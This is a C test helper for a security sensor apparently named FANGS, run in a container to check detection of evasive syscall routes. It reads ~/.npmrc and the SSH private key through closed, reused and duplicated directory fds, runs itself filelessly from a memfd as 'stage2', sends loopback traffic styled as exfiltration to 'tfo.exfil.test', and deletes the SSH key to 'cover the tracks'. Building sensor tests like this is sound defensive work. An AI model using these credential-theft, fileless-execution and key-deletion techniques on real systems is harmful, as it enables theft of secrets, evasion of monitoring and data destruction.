// FANGS sensor test helper, built static on the host and run inside a test
// container: the syscall-level routes a JavaScript install script cannot
// take (dirfd-relative openat on a reused fd, fd gone, fchdir, dup2,
// execveat of a memfd, TCP Fast Open, sendmmsg, a raw io_uring_setup).
// Every destination is 127.0.0.1 in the container's own network namespace.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void slurp(int fd, const char *label)
{
    char buf[256];
    if (fd < 0) {
        printf("routes: %s %s\n", label, strerror(errno));
        return;
    }
    while (read(fd, buf, sizeof buf) > 0)
        ;
    close(fd);
    printf("routes: %s read\n", label);
}

static void files(const char *home)
{
    char ssh[512];
    snprintf(ssh, sizeof ssh, "%s/.ssh", home);

    // A directory fd that is closed, its number reused for the home, then
    // a relative openat on it; the fd is gone before the sensor looks.
    int a = open("/tmp", O_RDONLY | O_DIRECTORY);
    close(a);
    int b = open(home, O_RDONLY | O_DIRECTORY);
    if (b != a)
        printf("routes: fd not reused (%d, %d)\n", a, b);
    slurp(openat(b, ".npmrc", O_RDONLY), "dirfd-reused");
    close(b);

    // Without O_DIRECTORY: the fd is a directory all the same.
    int c = open(ssh, O_RDONLY);
    slurp(openat(c, "id_ed25519", O_RDONLY), "dirfd-plain");
    close(c);

    // dup2 of a directory fd, the original closed.
    int d = open(ssh, O_RDONLY | O_DIRECTORY);
    dup2(d, 40);
    close(d);
    slurp(openat(40, "id_ed25519", O_RDONLY), "dirfd-dup2");
    close(40);

    // fchdir, then a relative open once the fd is gone.
    int e = open(home, O_RDONLY | O_DIRECTORY);
    fchdir(e);
    close(e);
    slurp(open(".npmrc", O_RDONLY), "fchdir");
    chdir("/");

    // openat2 relative to a directory fd (open_how read at the exit).
    struct { unsigned long long flags, mode, resolve; } how = {O_RDONLY, 0, 0};
    int g = open(home, O_RDONLY | O_DIRECTORY);
    slurp(syscall(437, g, "./.npmrc", &how, sizeof how), "openat2");
    close(g);

    // A path string on a page that is not faulted in when open() is
    // called: a fresh private file mapping, never touched by this process.
    char path[512];
    snprintf(path, sizeof path, "%s/./.npmrc", home);
    int pf = open("/tmp/routes-path", O_RDWR | O_CREAT | O_TRUNC, 0600);
    write(pf, path, strlen(path) + 1);
    fsync(pf);
    close(pf);
    posix_fadvise(0, 0, 0, 0);
    pf = open("/tmp/routes-path", O_RDONLY);
    const char *mapped = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, pf, 0);
    close(pf);
    slurp(open(mapped, O_RDONLY), "unfaulted");
    munmap((void *)mapped, 4096);
    unlink("/tmp/routes-path");

    // Cover the tracks: remove the key.
    char victim[512];
    snprintf(victim, sizeof victim, "%s/.ssh/id_ed25519", home);
    printf("routes: unlink %d\n", unlink(victim));
}

static int memfd_exec(char **argv)
{
    int self = open("/proc/self/exe", O_RDONLY);
    int m = memfd_create("stage2", MFD_CLOEXEC);
    char buf[65536];
    ssize_t n;
    while ((n = read(self, buf, sizeof buf)) > 0)
        write(m, buf, n);
    close(self);
    pid_t pid = fork();
    if (pid == 0) {
        // argv on the stack (a literal of a forked child is not faulted in
        // at the call; the sensor then takes it from /proc after the exec).
        char a0[] = "stage2", a1[] = "child";
        char *args[] = {a0, a1, NULL};
        char *env[] = {NULL};
        syscall(SYS_execveat, m, "", args, env, AT_EMPTY_PATH);
        _exit(127);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    printf("routes: memfd exec status %d\n", status);
    return 0;
}

static void network(void)
{
    struct sockaddr_in lo = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int l = socket(AF_INET, SOCK_STREAM, 0);
    lo.sin_port = 0;
    bind(l, (struct sockaddr *)&lo, sizeof lo);
    listen(l, 4);
    socklen_t len = sizeof lo;
    getsockname(l, (struct sockaddr *)&lo, &len);

    // TCP Fast Open: the connect and the first bytes in one sendto.
    int t = socket(AF_INET, SOCK_STREAM, 0);
    const char *req = "GET /tfo HTTP/1.1\r\nHost: tfo.exfil.test\r\n\r\n";
    if (sendto(t, req, strlen(req), MSG_FASTOPEN, (struct sockaddr *)&lo, sizeof lo) < 0)
        printf("routes: tfo %s\n", strerror(errno));
    else
        printf("routes: tfo sent\n");
    close(t);
    close(l);

    // sendmmsg of two datagrams to a port that is not 53.
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in dst = {.sin_family = AF_INET, .sin_port = htons(9996), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    char p1[] = "mmsg-one-datagram-payload", p2[] = "mmsg-two-datagram-payload";
    struct iovec v[2] = {{p1, sizeof p1 - 1}, {p2, sizeof p2 - 1}};
    struct mmsghdr mm[2];
    memset(mm, 0, sizeof mm);
    for (int i = 0; i < 2; i++) {
        mm[i].msg_hdr.msg_name = &dst;
        mm[i].msg_hdr.msg_namelen = sizeof dst;
        mm[i].msg_hdr.msg_iov = &v[i];
        mm[i].msg_hdr.msg_iovlen = 1;
    }
    printf("routes: sendmmsg %d\n", sendmmsg(u, mm, 2, 0));
    close(u);
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc > 1 && strcmp(argv[1], "child") == 0)
        return 0;
    const char *home = getenv("HOME") ? getenv("HOME") : "/root";
    if (argc > 1 && strcmp(argv[1], "files") == 0)
        files(home);
    if (argc > 1 && strcmp(argv[1], "exec") == 0)
        memfd_exec(argv);
    if (argc > 1 && strcmp(argv[1], "net") == 0)
        network();
    if (argc > 1 && strcmp(argv[1], "uring") == 0) {
        char params[120];
        memset(params, 0, sizeof params);
        long r = syscall(425, 8, params);
        printf("routes: io_uring_setup %ld %s\n", r, r < 0 ? strerror(errno) : "");
    }
    return 0;
}
